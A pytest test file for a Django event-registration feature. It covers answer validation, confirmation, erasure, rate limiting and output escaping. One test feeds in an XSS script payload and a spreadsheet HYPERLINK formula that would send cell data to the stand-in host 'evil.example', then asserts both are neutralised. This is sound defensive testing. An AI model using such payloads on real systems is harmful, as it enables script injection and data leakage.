"""An event's own registration questions: the public form asks them, checks the answers,
keeps them only once the owner of the address confirms, and gives them to editors only: in
the event's statistics and its registrations download (where a formula never runs). Tried as
an attacker would: forged address, markup and formulas in answers, answers out of the list,
an answer the size of a book, and erasure."""

from __future__ import annotations

import csv
import io

import pytest
from django.core import mail
from django.test import Client

from bilat.coordination.events.models import Answer, Question, Registration
from bilat.coordination.events.operations import register
from bilat.coordination.events.statistics import event_statistics
from bilat.coordination.stakeholders.operations import erase_person
from bilat.errors import CoordinationError

from factories import event_admin_form, link_in, make_editor, make_event, make_person

pytestmark = [pytest.mark.coordination, pytest.mark.django_db]

FORM = {
    "first_name": "Ada",
    "last_name": "Lovelace",
    "email": "ada@example.org",
    "organisation": "Analytical Engines",
    "sector": "other",
    "country": "GB",
    "consents": ["registration"],
}


def _event_with_questions():
    event = make_event()
    diet = event.questions.create(text="Dietary requirements", type=Question.Type.TEXT)
    session = event.questions.create(
        text="Which session?",
        type=Question.Type.CHOICE,
        options="Oceans\nClimate models\n",
        required=True,
        position=1,
    )
    matched = event.questions.create(
        text="May we introduce you?", type=Question.Type.YES_NO, position=2
    )
    return event, diet, session, matched


def _answers(questions, **values):
    """The form's boxes of the three questions, answered with `values` (by short name)."""
    given = {"diet": "", "session": "Oceans", "matched": "yes"} | values
    return {f"question_{q.pk}": given[name] for name, q in zip(given, questions, strict=True)}


def _register(client, event, form, capture):
    with capture(execute=True):
        client.post(f"/events/{event.slug}/register/", form)


def test_the_form_asks_the_events_questions_and_keeps_the_answers_once_confirmed(
    django_capture_on_commit_callbacks,
):
    event, diet, session, matched = _event_with_questions()
    page = Client().get(f"/events/{event.slug}/register/").content.decode()
    for text in ("Dietary requirements", "Which session?", "Climate models", "May we introduce"):
        assert text in page
    answers = _answers((diet, session, matched), diet="Vegetarian", session="Climate models")
    _register(Client(), event, FORM | answers, django_capture_on_commit_callbacks)
    assert not Answer.objects.exists()  # nothing is kept before the owner confirms
    link = link_in(mail.outbox[0])
    assert "Vegetarian" in Client().get(link).content.decode()  # the owner sees what is sent
    with django_capture_on_commit_callbacks(execute=True):
        Client().post(link)
    registration = Registration.objects.get()
    assert {a.question.text: a.value for a in registration.answers.all()} == {
        "Dietary requirements": "Vegetarian",
        "Which session?": "Climate models",
        "May we introduce you?": "yes",
    }


@pytest.mark.parametrize(
    ("values", "error"),
    [
        ({"session": ""}, "This field is required."),
        ({"session": "Astrology"}, "Select a valid choice."),
        ({"matched": "maybe"}, "Select a valid choice."),
        ({"diet": "x" * 2001}, "at most 2000 characters"),
    ],
)
def test_answers_that_cannot_be_are_refused_and_nothing_is_sent(
    values, error, django_capture_on_commit_callbacks
):
    event, diet, session, matched = _event_with_questions()
    form = FORM | _answers((diet, session, matched), **values)
    with django_capture_on_commit_callbacks(execute=True):
        response = Client().post(f"/events/{event.slug}/register/", form)
    assert response.status_code == 200
    assert error in response.content.decode()
    assert not mail.outbox
    assert not Registration.objects.exists()


def test_a_forged_answer_out_of_the_list_is_refused_even_past_the_form():
    event, _diet, session, _matched = _event_with_questions()
    person = make_person()
    with pytest.raises(CoordinationError, match="'Astrology' is not one of Oceans"):
        register(None, event, person, source="test", answers={str(session.pk): "Astrology"})
    assert not Registration.objects.exists()  # the registration was rolled back with it


def test_markup_in_answers_is_shown_as_text_and_formulas_do_not_run(
    client, django_capture_on_commit_callbacks
):
    event, diet, session, matched = _event_with_questions()
    script = "<script>alert('x')</script><img src=x onerror=alert(1)>"
    form = FORM | _answers((diet, session, matched), diet=script)
    _register(Client(), event, form, django_capture_on_commit_callbacks)
    link = link_in(mail.outbox[0])
    page = Client().get(link).content.decode()
    assert script not in page and "&lt;script&gt;alert(" in page
    with django_capture_on_commit_callbacks(execute=True):
        Client().post(link)
    registration = Registration.objects.get()
    client.force_login(make_editor())
    admin = client.get(f"/admin/events/registration/{registration.pk}/change/").content.decode()
    assert script not in admin and "&lt;script&gt;alert(" in admin
    other = make_person()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    register(None, event, other, source="test", answers={str(diet.pk): formula})
    download = client.get(f"/coordination/events/{event.slug}/registrations.csv")
    rows = list(csv.DictReader(io.StringIO(download.content.decode("utf-8-sig"))))
    column = "Q1. Dietary requirements"
    assert {r["email"]: r[column] for r in rows} == {
        "ada@example.org": script,
        other.email: "'" + formula,  # neutralised: a spreadsheet shows it as text
    }
    assert [r["Q2. Which session?"] for r in rows] == ["Oceans", ""]


def test_the_statistics_count_each_answer_of_registrations_not_cancelled():
    event, diet, session, matched = _event_with_questions()
    for chosen, agreed in (("Oceans", "yes"), ("Oceans", "no"), ("Climate models", "yes")):
        register(
            None,
            event,
            make_person(),
            source="test",
            answers={str(session.pk): chosen, str(matched.pk): agreed, str(diet.pk): "none"},
        )
    stats = event_statistics(event)
    by_text = {s.question.text: s for s in stats.answers}
    assert by_text["Which session?"].counts == [("Oceans", 2), ("Climate models", 1)]
    assert by_text["May we introduce you?"].counts == [("yes", 2), ("no", 1)]
    assert (by_text["Dietary requirements"].answered, by_text["Dietary requirements"].asked) == (
        3,
        3,
    )


def test_erasing_a_person_erases_their_answers_and_keeps_the_count_of_the_registration():
    event, diet, _session, _matched = _event_with_questions()
    person = make_person()
    register(None, event, person, source="test", answers={str(diet.pk): "Gluten-free"})
    erase_person(None, person)
    assert not Answer.objects.exists()
    assert event_statistics(event).registered == 1


def test_a_flood_of_registrations_with_answers_is_braked(django_capture_on_commit_callbacks):
    event, diet, session, matched = _event_with_questions()
    answers = _answers((diet, session, matched), diet="spam " * 300)
    client = Client()
    answered = []
    for n in range(25):
        form = FORM | answers | {"email": f"flood{n}@example.org"}
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(f"/events/{event.slug}/register/", form)
        answered.append(response.status_code)
    assert len(mail.outbox) == 20  # 20 requests an hour per client, then refusals
    assert "Too many" in response.content.decode() or "too many" in response.content.decode()


def test_editors_set_the_questions_in_the_admin_and_a_list_needs_two_options():
    client = Client()
    client.force_login(make_editor())
    question = {
        "questions-TOTAL_FORMS": "1",
        "questions-0-position": "0",
        "questions-0-text": "Which session?",
        "questions-0-type": "choice",
        "questions-0-required": "on",
    }
    one = client.post(
        "/admin/events/event/add/",
        event_admin_form() | question | {"questions-0-options": "Oceans"},
    )
    assert "Give two options or more, one per line." in one.content.decode()
    assert not Question.objects.exists()
    added = client.post(
        "/admin/events/event/add/",
        event_admin_form(starts="2099-06-01", ends="2099-06-01")
        | question
        | {"questions-0-options": "Oceans\r\nClimate"},
    )
    assert added.status_code == 302
    [saved] = Question.objects.all()
    assert (saved.choices(), saved.required) == (["Oceans", "Climate"], True)
    form = client.get(f"/events/{saved.event.slug}/register/").content.decode()
    assert "Which session?" in form and "Climate" in form
